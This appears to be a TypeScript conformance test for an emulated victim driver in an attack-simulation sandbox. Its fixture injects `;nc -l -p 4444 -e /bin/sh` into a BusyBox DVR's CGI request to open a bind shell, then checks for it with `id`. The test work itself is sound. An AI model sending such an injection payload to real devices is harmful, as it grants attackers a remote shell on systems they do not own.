/**
 * The emulated driver passes the conformance suite every victim driver passes. Its mark is the
 * one multi-stage attacks rely on: a command injection on the BusyBox DVR's web server starts a
 * listener (`nc -l -p 4444 -e /bin/sh`), and a later connection to that port gets a shell.
 */
import { validateProfile } from '../../src/config/index.ts';
import { EmulatedDriver } from '../../src/drivers/index.ts';
import { defaultInterpreters, serviceResolver } from '../../src/emulator/index.ts';
import { defaultCatalogue, type Victim } from '../../src/sandbox/index.ts';
import { victimDriverConformance } from './victim-driver-conformance.ts';

const catalogue = defaultCatalogue();
const peer = { address: '192.0.2.10', port: 40_000 };
const LISTENER_PORT = 4_444;
const INJECTION = `GET /cgi-bin/x.cgi?p=;nc -l -p ${LISTENER_PORT} -e /bin/sh HTTP/1.0\r\n\r\n`;

/** Windows on ARM (Windows RT): no catalogue entry, and no process environment the emulator has for it. */
const windowsOnArm = validateProfile({ ...catalogue.get('win-7-sp1-x64'), id: 'win-rt-8.1-arm', arch: 'arm' }, 'conformance profile');

victimDriverConformance('emulated', () => new EmulatedDriver({ services: serviceResolver(), interpreters: defaultInterpreters() }), {
  profile: catalogue.get('busybox-dvr'),
  servicePort: 80,
  probe: Buffer.from('GET / HTTP/1.0\r\n\r\n'),
  refusedPort: 8_081,
  unsupportedProfile: windowsOnArm,
  leaveMark: async (victim: Victim, signal: AbortSignal) => {
    const connection = await victim.connect(80, peer, { signal });
    if (connection === null) throw new Error('tcp/80 refused');
    await connection.send(Buffer.from(INJECTION), { signal });
    await connection.close();
  },
  findMark: async (victim: Victim, signal: AbortSignal) => {
    const connection = await victim.connect(LISTENER_PORT, peer, { signal });
    if (connection === null) return false;
    const answer = Buffer.from(await connection.send(Buffer.from('id\n'), { signal })).toString('latin1');
    await connection.close();
    return answer.includes('uid=');
  },
});
